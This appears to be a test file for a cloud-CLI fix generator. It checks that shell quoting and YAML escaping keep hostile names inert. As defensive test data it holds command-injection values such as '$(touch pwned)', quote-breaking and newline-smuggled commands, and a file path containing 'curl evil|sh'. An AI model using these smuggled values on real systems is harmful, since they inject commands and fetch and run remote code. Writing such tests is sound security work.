import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { catalogue } from "../../../../src/clouds/refusals/catalogue.ts";
import { fill } from "../../../../src/clouds/refusals/catalogue-fill.ts";
import { oneLine, operandsApart, quote, raw, sh, yamlScalar } from "../../../../src/core/index.ts";
import { LINT_RULES } from "../../../../src/lint/rules/index.ts";
import { parseTemplate } from "../../../../src/parameters/template.ts";
import { gcloud } from "../../../../src/secrets/gcloud.ts";
import { credentialCommand } from "../../../../src/trust/credential-command.ts";
import { inBash as run, usable } from "../../../bash.ts";
import { lintOf } from "../../lint/rules/repository.ts";
import { hostile } from "../../report/hostile.ts";

const NAMES: readonly string[] = [
  "$(touch pwned)",
  "`touch pwned`",
  "'; touch pwned; '",
  '"; touch pwned; "',
  "a\ntouch pwned\n",
  "a\r\ntouch pwned #",
  "-x",
  "--help",
  "a b",
  "a!b",
  "~",
  "*",
  "<in >out",
  "\u001b[31mred\u202e",
  "##[error]x",
  "",
];

describe("a value in a command", () => {
  it("reaches the program whole, as one word, and on one line", () => {
    const texts = [...NAMES, ...fc.sample(hostile, 300)].map((text) => text.toWellFormed().replaceAll("\0", ""));
    const { calls, files } = run(texts.map((text) => `try ${quote(text)}`).join("\n"));
    expect(calls).toEqual(texts.map((text) => ["try", text]));
    expect(files).toEqual([]);
    // What is printed is what was made: no reader of lines changes it.
    for (const text of texts) expect(oneLine(quote(text))).toBe(quote(text));
  });

  it("is quoted by the template, and tied to its option where it looks like another one", () => {
    const name = "a'b";
    expect(sh`az x --name ${name} --count ${3} --group ${raw("<group>")} ${["a", "b c"]}`).toBe(
      "az x --name 'a'\\''b' --count 3 --group <group> a 'b c'",
    );
    expect(sh`az x --name ${"-y"} ${"-z"}`).toBe("az x --name='-y' -- '-z'");
  });

  it("is no option, wherever it stands", () => {
    const dashed = fc.sample(hostile, 200).map((text) => `-${text.toWellFormed().replaceAll("\0", "")}`);
    const values = ["-x", "--help", "--", "-", "-a --b '-c", "-$(touch pwned)", "-a\n-b", ...dashed];
    const script = values.flatMap((value) => [
      sh`az x --name ${value} --output table   # a remark, --name ${raw("it's")}`,
      sh`gcloud secrets add ${value} --project=p --data-file=-   # and --x ${raw("<'-x'>")}`,
      sh`gcloud secrets enable ${value} --secret=${value} && az y --id ${value} && gh z ${value}`,
      sh`git update-index --chmod=+x -- ${value}`,
    ]);
    const { calls, files } = run(script.join("\n"));
    expect(files).toEqual([]);
    const told = calls.map((words) => words.join("\0")).sort();
    const wanted = values.flatMap((value) => [
      ["az", "x", `--name=${value}`, "--output", "table"],
      ["gcloud", "secrets", "add", "--project=p", "--data-file=-", "--", value],
      ["gcloud", "secrets", "enable", `--secret=${value}`, "--", value],
      ["az", "y", `--id=${value}`],
      ["gh", "z", "--", value],
      ["git", "update-index", "--chmod=+x", "--", value],
    ]);
    expect(told).toEqual(wanted.map((words) => words.join("\0")).sort());
  });

  it("is escaped in YAML, and reads back", () => {
    fc.assert(
      fc.property(fc.oneof(hostile, fc.constantFrom(...NAMES, "true", "1.5", "a: b", "# a", "null")), (text) => {
        const line = `key: ${yamlScalar(text)}`;
        expect(line).not.toMatch(/[\n\r\u2028\u2029\u0085]/);
        expect(parse(line)).toEqual({ key: text.toWellFormed() });
      }),
    );
  });
});

describe("the fix of every refusal", () => {
  const isCommand = (line: string) => /^(?:az|gcloud|gh|curl|nslookup) /.test(line);
  it.each(NAMES.filter((name) => name !== ""))("runs nothing else for a name such as %j", (name) => {
    const context = {
      repository: name,
      runId: name,
      tenantId: name,
      clientId: name,
      subscriptionId: name,
      provider: `projects/${name.replaceAll("/", "")}/locations/global/workloadIdentityPools/p/providers/q`,
      serviceAccount: name,
      subject: name,
      issuer: name,
      audience: name,
      vault: { resourceGroup: name, name },
    };
    const quoted = `action '${name}' scope '${name}' namespace '${name}' after '${name}' seconds issuer '${name}' subject '${name}'`;
    let tried = 0;
    const script = catalogue.flatMap((row) =>
      row.services.flatMap((service) => {
        const refusal = { service, operation: name, text: quoted, status: 400 };
        const lines = row.fix(fill(context, refusal), refusal).split("\n");
        // Prose and lines for a plan stand beside commands; no line of a name's own does.
        for (const line of lines) expect(line).not.toMatch(/^\s*touch|\r/);
        const commands = lines.filter((line) => isCommand(line) || line.startsWith("#"));
        tried += commands.length;
        return commands;
      }),
    );
    const { calls, files } = run(usable(script.join("\n")));
    expect(files).toEqual([]);
    expect(tried).toBeGreaterThan(100);
    expect(calls.length).toBeGreaterThan(80);
    expect(calls.every(([tool]) => tool !== "touch")).toBe(true);
  });
});

it("a template that is Bicep is built by its name, whatever that holds", () => {
  const path = "infra/$(touch pwned);curl evil|sh;.bicep";
  const parsed = parseTemplate("param x string", path);
  const [problem] = "problems" in parsed ? parsed.problems : [];
  const command = /az bicep .*/.exec(problem?.fix ?? "")?.[0] ?? "";
  expect(run(command)).toEqual({ calls: [["az", "bicep", "build", "--file", path]], files: [] });
});

describe("every command that names something", () => {
  const PLAIN = "zzname";
  const isCommand = (line: string) => /^(?:az|gcloud|gh|curl|nslookup) /.test(line);
  /** The commands of every refusal, and those that rules share, with one name in every place that takes one. */
  const commands = (name: string): string[] => {
    const context = {
      repository: name,
      runId: name,
      tenantId: name,
      clientId: name,
      subscriptionId: name,
      provider: `projects/1/locations/global/workloadIdentityPools/${name}/providers/${name}`,
      serviceAccount: name,
      subject: name,
      issuer: name,
      audience: name,
      vault: { resourceGroup: name, name },
    };
    const fixes = catalogue.flatMap((row) =>
      row.services.map((service) => {
        const refusal = { service, operation: "x", text: "no", status: 400 };
        return operandsApart(row.fix(fill(context, refusal), refusal));
      }),
    );
    const { add, versions, describe: show, enable, update } = gcloud(`projects/${name}/secrets/${name}`);
    const shared = [add, versions, show, enable(name), update("--ttl=1")].map(operandsApart);
    const credentials = (["create", "update", "delete"] as const).map((verb) =>
      operandsApart(credentialCommand(verb, { clientId: name, name, issuer: name, subject: name })),
    );
    return usable([...fixes, ...shared, ...credentials].join("\n"))
      .split("\n")
      .filter(isCommand);
  };
  /** Words of a call, an option's value apart from it, without the `--` that ends options, in no order. */
  const said = (words: readonly string[]) =>
    words
      .filter((word) => word !== "--")
      .flatMap((word) => /^(--[\w-]+)=([\s\S]*)$/.exec(word)?.slice(1) ?? [word])
      .sort();

  it.each(["-x", "--help", "-$(touch pwned)", "a'b", "$(touch pwned)", "`touch pwned`", 'a"b', "a b", "a;touch pwned"])(
    "gives the program %j whole, as one word, and as no option",
    (name) => {
      const plain = run(commands(PLAIN).join("\n"));
      const { calls, files } = run(commands(name).join("\n"));
      expect(files).toEqual([]);
      expect(calls.length).toBeGreaterThan(80);
      // JSON within a word holds the name as JSON has it.
      const filled = (word: string) =>
        word.replaceAll(PLAIN, () => (word.startsWith("{") ? JSON.stringify(name).slice(1, -1) : name));
      expect(calls.map(said)).toEqual(
        plain.calls.map((words) =>
          words
            .flatMap((word) => said([word]))
            .map(filled)
            .sort(),
        ),
      );
      for (const words of calls) {
        const end = words.indexOf("--");
        const options = end === -1 ? words : words.slice(0, end);
        expect(options).not.toContain(name.startsWith("-") ? name : "--");
      }
    },
  );
});

describe("the fixes of rules over files, and the commands that other rules share", () => {
  const isCommand = (line: string) => /^(?:az|gcloud) /.test(line);
  /** The examples' own names in JSON files, each made hostile. */
  const renamed = (files: Readonly<Record<string, string>>, name: string) =>
    Object.fromEntries(
      Object.entries(files).map(([path, text]) => [
        path,
        path.endsWith(".json")
          ? text.replaceAll(/\b(?:daily|prod-vault|orders-01|prod-backup)\b/g, () =>
              JSON.stringify(name.replaceAll("/", "")).slice(1, -1),
            )
          : text,
      ]),
    );
  it.each(["$(touch pwned)", "`touch pwned`", "'; touch pwned; '", '"; touch pwned; "', "a\ntouch pwned\n", "-x"])(
    "run nothing else for a name such as %j",
    async (name) => {
      const found = await Promise.all(LINT_RULES.map(({ examples }) => lintOf(renamed(examples.failing, name), examples.about)));
      const linted = found.flat().flatMap(({ fix = "" }) => fix.split("\n"));
      const { add, versions, describe: show, enable, update } = gcloud(`projects/${name}/secrets/${name}`);
      const credential = { clientId: name, name, issuer: name, subject: name };
      const shared = (["create", "update", "delete"] as const).map((verb) => credentialCommand(verb, credential));
      for (const line of linted) expect(line).not.toMatch(/^\s*touch/);
      const lines = [...linted.filter(isCommand), add, versions, show, enable(name), update("--ttl=1"), ...shared];
      const { calls, files } = run(usable(lines.join("\n")));
      expect(files).toEqual([]);
      expect(linted.length).toBeGreaterThan(LINT_RULES.length / 2);
      // Each command is one call, of a tool that it names.
      expect(calls).toHaveLength(lines.length);
    },
  );
});
